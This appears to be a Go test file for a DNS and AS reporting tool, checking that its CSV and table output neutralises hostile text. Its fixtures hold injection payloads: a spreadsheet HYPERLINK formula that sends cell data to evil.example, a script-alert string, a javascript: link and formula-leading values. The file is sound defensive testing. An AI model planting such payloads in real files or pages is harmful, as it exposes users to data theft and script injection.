package reports

import (
	"bytes"
	"encoding/csv"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/hostwatch/hostwatch/attribution"
	"github.com/hostwatch/hostwatch/probe"
	"github.com/hostwatch/hostwatch/resolvers"
)

// Hostile strings a stranger can put in what hostwatch reports: an AS
// name, a PTR name, a CNAME target, a TXT record, an error text.
const (
	hostileFormula = `=HYPERLINK("https://evil.example/?"&A1,"click me")`
	hostileScript  = `<script>alert(1)</script>`
	hostileLink    = `see [here](javascript:alert(1)) and ![x](https://evil.example/x.png)`
	hostilePipe    = `EVIL | AS | NET`
	hostileCode    = "`code` **bold** _em_ ~~del~~ <b>b</b> &amp; https://evil.example www.evil.example abuse@evil.example"
)

// hostileReport is a report whose outside text is hostile in every place a
// renderer shows it.
func hostileReport() probe.Report {
	at := time.Date(2024, 2, 15, 8, 30, 0, 0, time.UTC)
	ip := netip.MustParseAddr("192.0.2.10")
	return probe.Report{
		GeneratedAt: at, ToolVersion: "v0.1.0-test", Resolvers: []string{"127.0.0.1:5300"},
		Datasets: []attribution.Dataset{{ID: "evil/" + hostileScript, Version: hostileFormula, License: hostilePipe}},
		Warnings: []probe.Warning{{Code: probe.WarningLookupsFailed, Dataset: "evil/" + hostileScript, Count: 2, Address: ip, Detail: "warning " + hostileLink}},
		Vantage:  probe.Vantage{Name: "-vantage " + hostilePipe},
		Observations: []probe.Observation{
			{
				Target: probe.ParseTarget("evil.example", "args", 0), Status: resolvers.StatusOK, StartedAt: at,
				CNAMEChain: []resolvers.Hop{{Name: "evil.example", Target: "-2+3.example"}},
				Addresses: []probe.Address{{IP: ip, TTL: 60, Result: attribution.Result{
					ASN: 64500, ASOrg: hostileFormula, Prefix: netip.MustParsePrefix("192.0.2.0/24"), Country: "ID",
					Provider: hostilePipe, CDNName: "@cdn"},
					Extra: &probe.Extra{PTRAsked: true, PTR: []string{hostileScript}}}},
				Records: []probe.RecordSet{{Type: "TXT", Owner: "evil.example", Status: resolvers.StatusOK,
					Records: []probe.Record{{Value: hostileCode}, {Value: hostileLink}}}},
			},
			{Target: probe.ParseTarget("broken.example", "args", 0), Status: resolvers.StatusError, StartedAt: at,
				Error: hostileScript + " | " + hostileLink + "\n=1+1"},
		},
	}
}

// hostileStrings are every hostile string of hostileReport.
func hostileStrings() []string {
	return []string{hostileFormula, hostileScript, hostileLink, hostilePipe, hostileCode}
}

// auditCSV writes a report as audit -o csv does.
func auditCSV(t *testing.T, r probe.Report) []byte {
	t.Helper()
	var buf bytes.Buffer
	cw := NewAuditCSVWriter(&buf, r.Vantage.Name)
	for _, o := range r.Observations {
		if err := cw.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestAuditCSV(t *testing.T) {
	t.Parallel()
	data := auditCSV(t, sampleReport(t))
	golden(t, "audit.csv.golden", data)
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// One row per address, one per domain without any.
	if want := 1 + 1 + 3 + 3; len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
}

// TestHostileCSV checks that hostile text in an audit CSV is kept exactly,
// as text: no cell starts a formula, and each reads back as it came (but
// for the "'" that makes it text, and line breaks made "\n").
func TestHostileCSV(t *testing.T) {
	t.Parallel()
	r := hostileReport()
	data := auditCSV(t, r)
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := rows[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %q", name, header)
		return -1
	}
	for _, row := range rows {
		if len(row) != len(header) {
			t.Errorf("a row has %d cells, the header %d: %q", len(row), len(header), row)
		}
		for _, cell := range row {
			if formulaStart(cell) {
				t.Errorf("cell %q would run in a spreadsheet", cell)
			}
		}
	}
	for _, tt := range []struct {
		row  int
		col  string
		want string
	}{
		{1, "as_org", "'" + hostileFormula},
		{1, "provider", hostilePipe},
		{1, "cdn_name", "'@cdn"},
		{1, "cname_chain", "'-2+3.example"},
		{1, "ptr", hostileScript},
		{1, "vantage", "'-vantage " + hostilePipe},
		{2, "error", hostileScript + " | " + hostileLink + "\n=1+1"},
	} {
		if got := rows[tt.row][col(tt.col)]; got != tt.want {
			t.Errorf("row %d %s = %q, want %q", tt.row, tt.col, got, tt.want)
		}
	}
	if !strings.Contains(string(data), "'=HYPERLINK(") {
		t.Errorf("the formula is not kept as text:\n%s", data)
	}
}

// TestHostileTable lays hostile text out at 80 columns: every line fits,
// and a line break inside outside text never starts a line of its own.
func TestHostileTable(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := WriteTable(&buf, hostileReport(), 80); err != nil {
		t.Fatal(err)
	}
	text := buf.String()
	fitsWidth(t, text, 80)
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "=1+1") {
			t.Errorf("a line break from outside forged a line: %q\n%s", line, text)
		}
	}
	if !strings.Contains(strings.Join(strings.Fields(text), " "), `alert(1)) and ![x](https://evil.example/x.png)\n=1+1`) {
		t.Errorf("the reason is not shown whole, its line break escaped:\n%s", text)
	}
}
